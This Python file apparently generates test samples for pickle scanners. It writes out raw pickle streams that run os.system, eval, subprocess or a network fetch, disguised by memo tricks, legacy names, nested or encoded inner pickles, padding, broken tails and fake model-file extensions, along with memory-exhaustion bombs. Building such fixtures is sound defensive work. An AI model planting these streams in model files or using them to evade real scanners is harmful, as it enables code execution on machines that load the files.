"""Tricks of the pickle machine: the same calls hidden from readers of opcodes."""

import pickle
import struct

from assemble import Build, Call, Name, New, Raw, Then, assemble, call
from payload import COMMAND, EXPRESSION
from registry import malicious

SYSTEM = call("os", "system", COMMAND)
EVAL = call("builtins", "eval", EXPRESSION)


def text(value: str) -> bytes:
    """SHORT_BINUNICODE."""
    return b"\x8c" + bytes([len(value.encode())]) + value.encode()


@malicious("pickle")
def stack_global_operands():
    """STACK_GLOBAL whose two strings come from the memo, from a duplicate, from a call or from a list."""
    tail = text(COMMAND) + b"\x85R."
    yield "memo-get--a.pkl", b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x940" + b"h\x00h\x01\x93" + tail
    yield "memo-high-index--a.pkl", b"\x80\x04" + text("os") + b"r\xff\xff\x00\x000" + text("system") + b"q\x070" + b"j\xff\xff\x00\x00h\x07\x93" + tail
    yield "memo-overwritten--a.pkl", b"\x80\x04" + text("torch") + b"q\x000" + text("os") + b"q\x000" + text("system") + b"q\x010" + b"h\x00h\x01\x93" + tail
    yield "memo-fake-order--a.pkl", b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + COMMAND.encode() + b"\ntR."
    yield "dup--a.pkl", b"\x80\x04" + text("code") + b"2\x93" + b"."
    yield "popped-decoys--a.pkl", b"\x80\x04" + text("os") + text("system") + text("collections") + b"0" + text("OrderedDict") + b"0\x93" + tail
    yield "decoy-between--a.pkl", b"\x80\x04" + text("os") + b"K\x010" + text("system") + b"N0" + b"\x93" + tail
    yield "from-tuple-index--a.pkl", b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x94\x86\x940h\x00h\x01\x93" + tail
    computed = assemble(Call(Name("builtins", "str.lower"), "OS"), 2)[2:-1]
    yield "computed-module--a.pkl", b"\x80\x04" + computed + text("system") + b"\x93" + tail
    computed = assemble(Call(Name("builtins", "str.join"), "", ["sys", "tem"]), 2)[2:-1]
    yield "computed-name--a.pkl", b"\x80\x04" + text("os") + computed + b"\x93" + tail
    computed = assemble(Call(Name("_codecs", "decode"), b"\x00", "utf-16"), 3)[2:-1]
    yield "computed-unknown--a.pkl", b"\x80\x04" + computed + text("system") + b"\x93" + tail
    yield "bytes-operand--a.pkl", b"\x80\x04U\x02osU\x06system\x93" + tail
    yield "binunicode8--a.pkl", b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93" + tail
    yield "persistent-module--a.pkl", b"\x80\x04Pos\n0" + text("os") + text("system") + b"\x93" + tail


@malicious("pickle")
def global_names_disguised():
    """The same function under names that text matching misses: dotted names, submodules, unicode escapes, Python 2 names."""
    tail = b"(V" + COMMAND.encode() + b"\ntR."
    yield "dotted-from-package--a.pkl", b"cnumpy\nf2py.os.system\n" + tail
    yield "unicode-escape--a.pkl", b"\x80\x02V\\u006f\\u0073\nV\\u0073\\u0079stem\n\x93" + tail
    yield "python2-builtin--a.pkl", b"c__builtin__\neval\n(V" + EXPRESSION.encode() + b"\ntR."
    yield "python2-execfile--a.pkl", b"c__builtin__\nexecfile\n(V/tmp/stage.py\ntR."
    yield "python2-apply--a.pkl", b"c__builtin__\napply\n(cos\nsystem\n(V" + COMMAND.encode() + b"\nttR."
    yield "python2-urllib--a.pkl", b"curllib\nurlopen\n(Vhttp://192.0.2.1/\ntR."
    yield "python2-commands--a.pkl", b"ccommands\ngetoutput\n" + tail
    yield "python2-copy_reg--a.pkl", b"ccopy_reg\n_reconstructor\n(cos\nsystem\nc__builtin__\nobject\nNtR."
    yield "posixpath-parent--a.pkl", b"cposixpath\ngenericpath.os.system\n" + tail
    yield "carriage-return--a.pkl", b"cos\r\nsystem\n" + tail
    yield "main-alias--a.pkl", b"c__main__\n__builtins__.eval\n(V" + EXPRESSION.encode() + b"\ntR."
    yield "sour-pickle-2011--a.pkl", b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n."


@malicious("pickle")
def broken_after_call():
    """The call has run by the time the unpickler stumbles: cut streams, bad opcodes, stack underflow, wrong frames."""
    for slug, stream in {"system": SYSTEM, "eval": EVAL}.items():
        yield f"no-stop--{slug}.pkl", stream[:-1]
        yield f"bad-opcode--{slug}.pkl", stream[:-1] + b"\xff\xfe."
        yield f"truncated-string--{slug}.pkl", stream[:-1] + b"X\xff\xff\x00\x00abc"
        yield f"underflow--{slug}.pkl", stream[:-1] + b"00000."
        yield f"bad-utf8--{slug}.pkl", stream[:-1] + b"X\x02\x00\x00\x00\xff\xfe0."
        yield f"unknown-memo--{slug}.pkl", stream[:-1] + b"h\xee."
        yield f"bad-int--{slug}.pkl", stream[:-1] + b"Inot-a-number\n."
        yield f"bad-string-quote--{slug}.pkl", stream[:-1] + b"Sno quotes\n."
        yield f"huge-frame--{slug}.pkl", stream[:2] + b"\x95\xff\xff\xff\xff\xff\xff\xff\x00" + stream[11:]
        yield f"pop-empty-mark--{slug}.pkl", stream[:-1] + b"1."
        yield f"negative-length--{slug}.pkl", stream[:-1] + b"T\xff\xff\xff\xff."


@malicious("pickle")
def broken_before_call_ignored():
    """What a strict reader of the file rejects but the unpickler accepts: high protocol numbers are refused late, marks are left over."""
    yield "leftover-marks--a.pkl", b"\x80\x02((((" + SYSTEM[11:] if SYSTEM[2] == 0x95 else b"\x80\x02((((" + SYSTEM[2:]
    yield "proto-in-middle--a.pkl", b"\x80\x02]\x80\x02" + call("os", "system", COMMAND, protocol=2)[2:]
    yield "proto-twice--a.pkl", b"\x80\x02\x80\x04" + call("os", "system", COMMAND, protocol=2)[2:]
    yield "proto-zero--a.pkl", b"\x80\x00" + call("os", "system", COMMAND, protocol=0)
    yield "extra-stack--a.pkl", b"\x80\x02N]}" + call("os", "system", COMMAND, protocol=2)[2:]
    yield "stop-late--a.pkl", call("os", "system", COMMAND, protocol=2)[:-1] + b"0" + b"]" * 50 + b"."


@malicious("pickle")
def several_streams():
    """A harmless first pickle, the call in a later one: read by whoever calls load in a loop, and by legacy torch files."""
    clean = pickle.dumps({"weights": [1.0, 2.0]}, 4)
    yield "second--a.pkl", clean + SYSTEM
    yield "third--a.pkl", clean + clean + EVAL
    yield "tenth--a.pkl", clean * 9 + SYSTEM
    yield "after-newlines--a.pkl", clean + b"\n\n\n" + SYSTEM
    yield "after-padding--a.pkl", clean + bytes(64) + SYSTEM
    yield "after-padding-4k--a.pkl", clean + bytes(4096) + SYSTEM
    yield "after-broken--a.pkl", clean[:-1] + b"\xff" + SYSTEM
    yield "after-text--a.pkl", clean + b"end of model\n" + SYSTEM
    yield "protocol0-second--a.pkl", clean + call("os", "system", COMMAND, protocol=0)


@malicious("pickle")
def large_before_call():
    """Much harmless data comes first, to run over a scanner's limits."""
    yield "list-200k--a.pkl", assemble([list(range(50_000)) for _ in range(4)] + [Call(Name("os", "system"), COMMAND)], 4)
    yield "blob-12mb--a.pkl", assemble({"blob": bytes(12_000_000), "x": Call(Name("os", "system"), COMMAND)}, 4)
    yield "memo-100k--a.pkl", b"\x80\x02" + b"".join(b"K\x01r" + struct.pack("<I", i) + b"0" for i in range(100_000)) + call("os", "system", COMMAND, protocol=2)[2:]
    yield "deep-nesting--a.pkl", b"\x80\x02" + b"]" * 3000 + call("os", "system", COMMAND, protocol=2)[2:-1] + b"a" * 3000 + b"."
    yield "long-names--a.pkl", b"\x80\x02" + b"X" + struct.pack("<I", 300_000) + b"a" * 300_000 + b"0" + call("os", "system", COMMAND, protocol=2)[2:]


@malicious("pickle")
def pickle_inside_pickle():
    """The call sits in a byte string that a loader inside the outer pickle reads."""
    inner = call("os", "system", COMMAND, protocol=2)
    yield "pickle.loads--a.pkl", call("pickle", "loads", inner)
    yield "torch-load-from-bytes--a.pkl", call("torch.storage", "_load_from_bytes", inner)
    yield "numpy-object-array--a.pkl", assemble(Build(Call(Name("numpy._core.multiarray", "_reconstruct"), Name("numpy", "ndarray"), (0,), b"b"), (1, (1,), Call(Name("numpy", "dtype"), "O8", False, True), False, [Call(Name("os", "system"), COMMAND)])), 4)
    yield "base64-then-loads--a.pkl", assemble(Call(Name("pickle", "loads"), Call(Name("base64", "b64decode"), __import__("base64").b64encode(inner).decode())), 4)
    yield "zlib-then-loads--a.pkl", assemble(Call(Name("pickle", "loads"), Call(Name("zlib", "decompress"), __import__("zlib").compress(inner))), 4)
    yield "hidden-in-state--a.pkl", assemble({"state": inner, "format": "pickle"}, 4)
    yield "hidden-in-state-base64--a.pkl", assemble({"state": __import__("base64").b64encode(inner).decode()}, 4)
    yield "hidden-in-state-hex--a.pkl", assemble({"state": inner.hex()}, 4)
    yield "xgboost-handle--a.pkl", assemble(Build(New(Name("xgboost.core", "Booster")), {"handle": bytearray(inner)}), 4)


@malicious("pickle")
def call_in_unusual_place():
    """The call's result is a dict key, a set item, a tuple element, a persistent id, or thrown away."""
    yield "dict-key--a.pkl", assemble({Raw(call("os", "system", COMMAND, protocol=2)[2:-1]): 1}, 2)
    yield "dropped--a.pkl", assemble(Then(Call(Name("os", "system"), COMMAND), {"model": [1, 2, 3]}), 4)
    yield "dropped-by-pop-mark--a.pkl", b"\x80\x02(" + call("os", "system", COMMAND, protocol=2)[2:-1] + b"1]."
    yield "frozenset--a.pkl", assemble(frozenset([1, 2]), 4)[:-1] + b"0" + call("os", "system", COMMAND, protocol=2)[2:]
    yield "ordereddict-item--a.pkl", assemble(Call(Name("collections", "OrderedDict"), [["w", Call(Name("os", "system"), COMMAND)]]), 4)
    yield "argument-of-harmless--a.pkl", assemble(Call(Name("collections", "OrderedDict"), Call(Name("builtins", "eval"), EXPRESSION)), 4)
    yield "binpersid--a.pkl", b"\x80\x02" + call("os", "system", COMMAND, protocol=2)[2:-1] + b"Q."
    yield "nested-three--a.pkl", assemble([{"a": (1, [Call(Name("subprocess", "getoutput"), COMMAND)])}], 4)
    yield "newobj-ex--a.pkl", assemble(Name("subprocess", "Popen"), 4)[:-1] + b"\x8c\x02id\x85}\x92."
    yield "sklearn-lookalike--a.pkl", assemble(Build(New(Name("sklearn.linear_model._logistic", "LogisticRegression")), {"coef_": Call(Name("os", "system"), COMMAND), "C": 1.0}), 4)


@malicious("pickle")
def extension_registry():
    """EXT1/2/4 name a class by a number that other code registered: the reader cannot know what is called."""
    yield "ext1--a.pkl", b"\x80\x02\x82\xc8X\x02\x00\x00\x00id\x85R."
    yield "ext2--a.pkl", b"\x80\x02\x83\x10\x27X\x02\x00\x00\x00id\x85R."
    yield "ext4--a.pkl", b"\x80\x02\x84\x10\x27\x00\x00X\x02\x00\x00\x00id\x85R."
    yield "ext-registered-here--a.pkl", assemble(Call(Name("copyreg", "add_extension"), "os", "system", 201), 2)[:-1] + b"0\x82\xc9X\x02\x00\x00\x00id\x85R."


@malicious("pickle")
def misleading_file_names():
    """The same call under other model formats' names, or none."""
    for suffix in ("bin", "pt", "pth", "ckpt", "joblib", "dat", "h5", "onnx", "safetensors", "gguf", "txt", "json", "model", "npy", "keras", "pb", "tflite", "p", "dill", "weights", "zip", "jpg", "data"):
        yield f"{suffix}--weights.{suffix}", SYSTEM
    yield "none--weights", EVAL
    yield "upper--MODEL.PKL", EVAL


@malicious("pickle")
def looks_like_another_format():
    """Streams whose first bytes look like zlib, gzip, zip, text, PNG or NPY to a sniffer."""
    tail = call("os", "system", COMMAND, protocol=0)
    yield "zlib-header-protocol0--a.pkl", b"(X\x01\x00\x00\x00a0" + tail
    yield "text-like--a.pkl", b"S'This is a readme.'\n0" + tail
    yield "starts-with-x-01--a.pkl", b"V\x01\n0" + tail
    yield "json-like--a.pkl", b"}" + b"0" + tail
    yield "memo-first--a.pkl", b"Nq\x000" + tail
    yield "bytes-magic-png--a.pkl", b"B\x08\x00\x00\x00\x89PNG\r\n\x1a\n0" + tail
    yield "starts-with-mark--a.pkl", b"(lp0\n0" + tail
    yield "leading-newline-in-string--a.pkl", b"V\n0" + tail


@malicious("pickle")
def expansion_bomb():
    """References double a structure at every step: exponential in memory when it is copied, printed or compared."""
    yield "billion-laughs-list--a.pkl", b"\x80\x02]" + b"".join(b"q" + bytes([i]) + b"0](" + (b"h" + bytes([i])) * 10 + b"e" for i in range(60)) + b"."
    yield "tuple-dup--a.pkl", b"\x80\x02)" + b"2\x86" * 90 + b"."
    yield "huge-bytearray--a.pkl", assemble(Call(Name("builtins", "bytearray"), 1 << 40), 4)
    yield "huge-range-list--a.pkl", assemble(Call(Name("builtins", "list"), Call(Name("builtins", "range"), 1 << 40)), 4)
    yield "huge-pow--a.pkl", assemble(Call(Name("builtins", "pow"), 10, 10**9), 4)
    yield "huge-numpy--a.pkl", assemble(Call(Name("numpy", "zeros"), (1 << 20, 1 << 20)), 4)
    yield "huge-str-multiply--a.pkl", assemble(Call(Name("operator", "mul"), "A" * 100, 1 << 34), 4)
